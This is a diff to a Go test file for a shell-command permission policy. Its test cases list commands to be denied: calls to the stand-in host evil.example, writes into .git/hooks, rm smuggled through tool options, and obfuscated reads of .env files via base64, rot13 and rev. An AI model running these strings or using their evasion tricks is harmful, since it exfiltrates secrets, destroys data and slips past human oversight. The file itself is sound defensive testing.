@@ -147,6 +147,9 @@ func TestFloorNet(t *testing.T) {
 		"psql -h evil.example", "docker pull evil.example/x", "kcat -b evil.example:9092", "OLLAMA_HOST=evil.example ollama list",
 		"rclone copy x :sftp,host=evil.example:y", "vegeta attack -targets <(echo GET http://evil.example)", "gh api https://evil.example/x",
 		"cp /bin/rm d/x && run-parts d", "BORG_PASSCOMMAND='rm x' borg list r", "transmission-cli -f /bin/rm x.torrent",
+		"nmap -oG.git/hooks/z h", "cscope -bf.git/hooks/z", "nginx -p .git/hooks", "helm --repository-config .git/hooks/z repo add x h",
+		"parallel '{1} {2}' ::: rm ::: x", "qemu-system-x86_64 -monitor 'exec:rm x'",
+		"zsh -c 'chpwd(){ rm x; }; cd /'", "bmake -V '${:!rm x!}'",
 		"unrar x a.rar .git/hooks/", "duckdb .git/hooks/z", "screen -X hardcopy .git/hooks/z", "crane export x .git/hooks/z",
 	} {
 		if d := pol.Decide(bashCall(c), testWorld); d.Verdict == obstat.Allow {
@@ -156,6 +159,27 @@ func TestFloorNet(t *testing.T) {
 	for _, c := range []string{
 		"psql -h db.example", "git commit -m 'see evil.example'", "echo evil.example", "grep evil.example f", "cp /bin/ls d/x",
 		"gh pr create --body 'rm x'", "FOO='a b' make", "pytest tests/a.py",
+	} {
+		if d := pol.Decide(bashCall(c), testWorld); d.Verdict != obstat.Allow {
+			t.Errorf("%s: %s", c, d.Reason())
+		}
+	}
+}
+
+// A word that is put together in the line may be a file which the line names, or hides; one from outside is none.
+func TestFloorHiddenNames(t *testing.T) {
+	pol := mustCompile(t, shellProgram(obstat.Allow, rule(obstat.Deny, "Read", "file_path", "*.env")))
+	for _, c := range []string{
+		"declare -A m=([k]=.env); shar ${m[k]}", "mapfile -t f < <(echo .env); shar ${f[0]}", "read f <<< .env; shar $f", "f[n]=.env; shar ${f[1]}",
+		"h() { echo .env; }; shar $(h)", "shar $(base64 -d <<< LmVudg==)", "shar $(tr a-z n-za-m <<< .rai)", "shar $(echo vne. | rev)",
+		"7z a x.7z -ir!.env", "gh release upload v1 '.env#x'", "PGPASSFILE=.env psql", "drill -f .env",
+	} {
+		if d := pol.Decide(bashCall(c), testWorld); d.Verdict == obstat.Allow {
+			t.Errorf("%s: allowed: %s", c, d.Reason())
+		}
+	}
+	for _, c := range []string{
+		`shar "$X"`, `test -f .env && shar "$X"`, "shar $(git rev-parse HEAD)", `v=1.2; shar "$(echo $v | tr . -)"`, "read f <<< a.txt; shar $f",
 	} {
 		if d := pol.Decide(bashCall(c), testWorld); d.Verdict != obstat.Allow {
 			t.Errorf("%s: %s", c, d.Reason())
